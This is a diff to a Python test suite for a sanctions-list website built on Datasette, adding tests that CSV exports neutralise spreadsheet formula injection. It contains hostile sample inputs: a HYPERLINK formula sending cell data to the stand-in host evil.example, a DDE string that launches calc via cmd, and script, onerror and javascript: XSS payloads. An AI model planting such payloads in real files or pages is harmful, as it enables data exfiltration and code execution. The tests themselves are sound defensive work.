@@ -9,6 +9,8 @@ owner-only in a directory of its own, and the site refuses to serve it.
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import re
 import stat
@@ -29,6 +31,7 @@ SCRIPT = '<script>alert("csl")</script>'
 IMAGE = "<img src=x onerror=alert(1)>"
 JAVASCRIPT = "javascript:alert(document.domain)"
 SECRET_ID, SECRET_LIST = "CUST-SECRET-4471", "vendors-under-review"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 @pytest.mark.parametrize(
@@ -65,6 +68,8 @@ def hostile(tmp_path_factory, forker):
     csl = edited(folder, FILES / "csl" / "consolidated.csv", "HUAWEI TECHNOLOGIES CO., LTD.", f"HUAWEI {in_csv} CO.")
     csl = edited(folder, csl, "http://bit.ly/1QWTIfE", JAVASCRIPT, count=-1)
     csl = edited(folder, csl, "Presumption of denial", f"Presumption {IMAGE} of denial", count=-1)
+    in_cell = FORMULA.replace('"', '""')
+    csl = edited(folder, csl, "DAHUA ELECTRONICS CORPORATION", f'"{in_cell}"')
     page = json.loads((FILES / "federal_register" / "documents_2024-01.json").read_text())
     page["results"][0].update(title=f"Notice {SCRIPT}", html_url=JAVASCRIPT, pdf_url="data:text/html,<b>x</b>")
     fr = folder / "documents.json"
@@ -212,3 +217,45 @@ def test_the_site_refuses_a_database_holding_private_tables(tmp_path, forker):
         "alerts, reviews, digest_subscriptions, digest_log): the site serves only the published database "
         "(e.g. --db data/chokepoint.db)"
     ]
+
+
+def test_a_csv_download_never_starts_a_cell_with_a_formula(hostile):
+    """A listed name the source published as a formula is text in every CSV the site gives: a table's,
+    a streamed one, a query's; numbers stay numbers and nothing else changes."""
+    name = hostile.stem
+    sql = "select '=1+2' as a, -5 as n, '-0.25' as s, '@SUM(A1)' as b, 'line one' || char(10) || '+two' as c"
+    stored = f"/{name}.json?sql={quote('select name from listings')}&_shape=arrays&_size=max"
+    pages = fetch(
+        hostile,
+        f"/{name}/listings.csv?_col=name&_size=max",
+        f"/{name}/listings.csv?_col=name&_stream=on",
+        f"/{name}/listings.csv?_col=name&_size=max&_dl=1",
+        f"/{name}.csv?sql={quote(sql)}",
+        stored,
+    )
+    names = [row[0] for row in json.loads(pages[stored])["rows"]]
+    assert FORMULA in names  # stored as the source published it; only the CSV cell is made safe
+    for path in list(pages)[:3]:
+        cells = [row[1] for row in csv.reader(io.StringIO(pages[path]))][1:]
+        assert "'" + FORMULA in cells and FORMULA not in cells, path
+        assert sorted(cell.removeprefix("'") for cell in cells) == sorted(names), path
+    [header, row] = list(csv.reader(io.StringIO(pages[f"/{name}.csv?sql={quote(sql)}"])))
+    assert header == ["a", "n", "s", "b", "c"]
+    assert row == ["'=1+2", "-5", "-0.25", "'@SUM(A1)", "line one\n+two"]
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 64])
+def test_the_csv_rewriter_cuts_records_only_where_they_end_whatever_the_chunks(size):
+    from pipeline.site.plugins.csv_cells import CsvRewriter
+
+    written = io.StringIO()
+    rows = [["id", "name"], ["1", '=cmd|" /C calc"!A0'], ["2", 'two\r\nlines, "quoted"'], ["3", "Müller"], ["4", "-7"]]
+    csv.writer(written).writerows(rows)
+    data = written.getvalue().encode()
+    rewriter = CsvRewriter()
+    out = b"".join(rewriter.feed(data[i : i + size]) for i in range(0, len(data), size)) + rewriter.finish()
+    expected = [row[:] for row in rows]
+    expected[1][1] = "'" + expected[1][1]
+    assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == expected
+    untouched = data.decode().replace('"=cmd', "\"'=cmd")
+    assert out.decode() == untouched  # every other byte as Datasette wrote it
